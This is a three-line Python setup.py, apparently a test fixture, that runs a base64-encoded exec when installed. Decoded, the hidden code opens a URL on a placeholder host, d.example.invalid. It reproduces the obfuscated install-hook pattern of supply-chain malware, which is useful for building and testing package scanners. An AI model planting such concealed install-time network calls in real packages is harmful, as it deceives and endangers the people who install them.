import base64
from setuptools import setup
exec(base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHUKdS51cmxvcGVuKCJodHRwczovL2QuZXhhbXBsZS5pbnZhbGlkL3giKQo="))
setup(name="fixture", version="1.0")
